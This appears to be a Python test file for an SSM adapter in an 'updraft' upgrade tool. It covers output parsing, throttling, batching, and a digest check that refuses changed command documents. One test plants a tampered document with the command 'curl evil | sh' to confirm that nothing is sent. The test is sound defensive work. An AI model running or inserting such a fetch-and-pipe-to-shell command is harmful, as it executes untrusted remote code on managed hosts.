"""The SSM adapter: plugin output split at the agent's error marker, throttling named, documents sent only
as deployed."""

from __future__ import annotations

import json
from collections.abc import Iterator

import boto3
import pytest
from botocore.config import Config
from botocore.exceptions import ClientError
from botocore.stub import ANY, Stubber

from updraft.adapters import ssm
from updraft.document_digest import document_digest
from updraft.domain.host_actions import Invocation
from updraft.errors import CommandThrottled, DocumentChanged

REPORT = '{"doc":"apply","result":"rebooting"}\n'
COMMAND = "0f2e3d4c-5b6a-4798-8a9b-0c1d2e3f4a5b"  # SSM command ids are 36-character UUIDs
OTHER_COMMAND = "1a2b3c4d-5e6f-4a7b-8c9d-0e1f2a3b4c5d"


@pytest.fixture
def stubbed(monkeypatch: pytest.MonkeyPatch) -> Iterator[Stubber]:
    client = boto3.client(
        "ssm",
        region_name="us-east-1",
        aws_access_key_id="testing",
        aws_secret_access_key="testing",
        config=Config(retries={"mode": "standard", "max_attempts": 1}),
    )
    monkeypatch.setattr(ssm, "client", lambda service: client)
    with Stubber(client) as stubber:
        yield stubber
        stubber.assert_no_pending_responses()


def invocation(instance_id: str, status: str, output: str | None) -> dict:
    item = {"CommandId": COMMAND, "InstanceId": instance_id, "Status": status}
    if output is not None:
        item["CommandPlugins"] = [{"Name": "aws:runShellScript", "Status": status, "Output": output}]
    return item


def test_invocations_split_output_at_the_error_marker(stubbed: Stubber) -> None:
    stubbed.add_response(
        "list_command_invocations",
        {
            "CommandInvocations": [
                invocation("i-1", "Success", "warming up\n" + REPORT + "\n----------ERROR-------\napiclient: slow\n"),
                invocation("i-2", "Success", REPORT),
                invocation("i-3", "Failed", "\n----------ERROR-------\nStatus 409 when POSTing\n"),
                invocation("i-4", "Pending", ""),
                invocation("i-5", "InProgress", None),
            ]
        },
        {"CommandId": COMMAND, "Details": True, "MaxResults": 50},
    )
    assert ssm.invocations(COMMAND) == {
        "i-1": Invocation("Success", "warming up\n" + REPORT, "apiclient: slow\n"),
        "i-2": Invocation("Success", REPORT, ""),
        "i-3": Invocation("Failed", "", "Status 409 when POSTing\n"),
        "i-4": Invocation("Pending", "", ""),
        "i-5": Invocation("InProgress", "", ""),
    }


def test_invocations_splits_only_at_the_first_marker(stubbed: Stubber) -> None:
    marker = "\n----------ERROR-------\n"
    stubbed.add_response(
        "list_command_invocations",
        {"CommandInvocations": [invocation("i-1", "Failed", REPORT + marker + "one" + marker + "two")]},
        {"CommandId": COMMAND, "Details": True, "MaxResults": 50},
    )
    assert ssm.invocations(COMMAND)["i-1"] == Invocation("Failed", REPORT, "one" + marker + "two")


def test_invocations_follow_every_page(stubbed: Stubber) -> None:
    stubbed.add_response(
        "list_command_invocations",
        {"CommandInvocations": [invocation("i-1", "Success", "a\n")], "NextToken": "page-2"},
        {"CommandId": COMMAND, "Details": True, "MaxResults": 50},
    )
    stubbed.add_response(
        "list_command_invocations",
        {"CommandInvocations": [invocation("i-2", "Success", "b\n")]},
        {"CommandId": COMMAND, "Details": True, "MaxResults": 50, "NextToken": "page-2"},
    )
    assert sorted(ssm.invocations(COMMAND)) == ["i-1", "i-2"]


APPLY = {"schemaVersion": "2.2", "mainSteps": [{"action": "aws:runShellScript", "inputs": {"runCommand": ["true"]}}]}
APPLY_SHA256 = document_digest(APPLY)


def deployed(stubbed: Stubber, version: str = "3", content: dict = APPLY) -> None:
    """GetDocument's answer: the default version of updraft-apply, with this content."""
    stubbed.add_response(
        "get_document",
        {"Name": "updraft-apply", "DocumentVersion": version, "Content": json.dumps(content, indent=2)},
        {"Name": "updraft-apply", "DocumentFormat": "JSON"},
    )


def send_params(instance_ids: list[str], version: str = "3") -> dict:
    return {
        "DocumentName": "updraft-apply",
        "DocumentVersion": version,
        "InstanceIds": instance_ids,
        "Parameters": {"TargetVersion": ["1.26.1"]},
        "TimeoutSeconds": 1200,
        "MaxConcurrency": "100%",
        "MaxErrors": "100%",
        "Comment": ANY,
    }


@pytest.mark.parametrize("code", ["ThrottlingException", "TooManyUpdates"])
def test_send_document_raises_command_throttled_when_throttled(stubbed: Stubber, code: str) -> None:
    deployed(stubbed)
    stubbed.add_client_error("send_command", service_error_code=code, service_message="Rate exceeded")
    with pytest.raises(CommandThrottled, match="SendCommand updraft-apply") as caught:
        ssm.send_document("updraft-apply", ["i-1"], {"TargetVersion": "1.26.1"}, 1200, sha256=APPLY_SHA256)
    assert isinstance(caught.value.__cause__, ClientError)


def test_send_document_lets_other_errors_through(stubbed: Stubber) -> None:
    deployed(stubbed)
    stubbed.add_client_error("send_command", service_error_code="InvalidInstanceId", service_message="not managed")
    with pytest.raises(ClientError) as caught:
        ssm.send_document("updraft-apply", ["i-1"], {"TargetVersion": "1.26.1"}, 1200, sha256=APPLY_SHA256)
    assert not isinstance(caught.value, CommandThrottled)
    assert caught.value.response["Error"]["Code"] == "InvalidInstanceId"


def test_send_document_batches_fifty_hosts_per_command(stubbed: Stubber) -> None:
    ids = [f"i-{index:03d}" for index in range(51)]
    deployed(stubbed)  # read once for both batches
    stubbed.add_response("send_command", {"Command": {"CommandId": COMMAND}}, send_params(ids[:50]))
    stubbed.add_response("send_command", {"Command": {"CommandId": OTHER_COMMAND}}, send_params(ids[50:]))
    sent = ssm.send_document(
        "updraft-apply", list(reversed(ids)), {"TargetVersion": "1.26.1"}, 1200, sha256=APPLY_SHA256
    )
    assert sent == {**dict.fromkeys(ids[:50], COMMAND), "i-050": OTHER_COMMAND}


def test_a_changed_document_is_refused_naming_it_its_version_and_both_digests_and_nothing_is_sent(stubbed):
    changed = {**APPLY, "mainSteps": [{"action": "aws:runShellScript", "inputs": {"runCommand": ["curl evil | sh"]}}]}
    deployed(stubbed, version="4", content=changed)
    with pytest.raises(DocumentChanged) as caught:
        ssm.send_document("updraft-apply", ["i-1"], {"TargetVersion": "1.26.1"}, 1200, sha256=APPLY_SHA256)
    message = str(caught.value)
    assert "updraft-apply" in message and "version 4" in message
    assert document_digest(changed) in message and APPLY_SHA256 in message
    # The Stubber fails any call it was not told of: no SendCommand was made.


def test_a_document_with_no_deployed_digest_is_refused(stubbed: Stubber) -> None:
    deployed(stubbed)
    with pytest.raises(DocumentChanged, match=r"deployed \(none\)"):
        ssm.send_document("updraft-apply", ["i-1"], {"TargetVersion": "1.26.1"}, 1200, sha256="")


def test_the_version_checked_is_the_version_sent_and_is_read_once_per_scope(stubbed: Stubber) -> None:
    deployed(stubbed, version="7")
    stubbed.add_response("send_command", {"Command": {"CommandId": COMMAND}}, send_params(["i-1"], version="7"))
    stubbed.add_response("send_command", {"Command": {"CommandId": OTHER_COMMAND}}, send_params(["i-2"], "7"))
    with ssm.checked_documents():
        assert ssm.checked_version("updraft-apply", APPLY_SHA256) == "7"
        ssm.send_document("updraft-apply", ["i-1"], {"TargetVersion": "1.26.1"}, 1200, sha256=APPLY_SHA256)
        ssm.send_document("updraft-apply", ["i-2"], {"TargetVersion": "1.26.1"}, 1200, sha256=APPLY_SHA256)


def test_a_new_scope_reads_the_document_again(stubbed: Stubber) -> None:
    deployed(stubbed, version="7")
    deployed(stubbed, version="8", content={**APPLY, "description": "changed"})
    with ssm.checked_documents():
        ssm.checked_version("updraft-apply", APPLY_SHA256)
    with ssm.checked_documents(), pytest.raises(DocumentChanged, match="version 8"):
        ssm.checked_version("updraft-apply", APPLY_SHA256)


def test_no_host_no_call(stubbed: Stubber) -> None:
    assert ssm.send_document("updraft-apply", [], {}, 1200, sha256=APPLY_SHA256) == {}


def information(instance_id: str, ping: str) -> dict:
    return {"InstanceId": instance_id, "PingStatus": ping}


def online_params(instance_ids: list[str], token: str | None = None) -> dict:
    params = {"Filters": [{"Key": "InstanceIds", "Values": instance_ids}], "MaxResults": 50}
    return {**params, "NextToken": token} if token else params


def test_online_asks_for_fifty_hosts_a_call_and_follows_every_page(stubbed: Stubber) -> None:
    ids = [f"i-{index:03d}" for index in range(120)]
    first = [information(i, "Online") for i in ids[:49]]
    stubbed.add_response(
        "describe_instance_information", {"InstanceInformationList": first, "NextToken": "t"}, online_params(ids[:50])
    )
    stubbed.add_response(
        "describe_instance_information",
        {"InstanceInformationList": [information(ids[49], "ConnectionLost")]},
        online_params(ids[:50], "t"),
    )
    stubbed.add_response(
        "describe_instance_information",
        {"InstanceInformationList": [information(i, "Online") for i in ids[50:100]]},
        online_params(ids[50:100]),
    )
    stubbed.add_response(
        "describe_instance_information",
        {"InstanceInformationList": [information(i, "Online") for i in ids[100:]]},
        online_params(ids[100:]),
    )
    assert ssm.online(list(reversed(ids))) == set(ids) - {ids[49]}
